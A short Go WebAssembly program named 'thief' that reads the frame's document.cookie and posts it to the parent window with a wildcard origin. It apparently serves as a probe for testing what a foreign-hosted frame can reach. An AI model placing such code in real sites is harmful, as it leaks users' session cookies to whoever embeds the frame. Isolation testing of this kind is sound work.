//go:build js && wasm

// Command thief is no program of the frame: another site hands it over, and it tells that
// site what it can reach in the frame.
package main

import "syscall/js"

func main() {
	js.Global().Get("parent").Call("postMessage", map[string]any{"thief": cookies()}, "*")
	select {}
}

// cookies returns the cookies, or the name of the error. Only through Reflect does the error not end the program.
func cookies() (text string) {
	defer func() {
		if err, ok := recover().(js.Error); ok {
			text = err.Get("name").String()
		}
	}()
	return js.Global().Get("Reflect").Call("get", js.Global().Get("document"), "cookie").String()
}
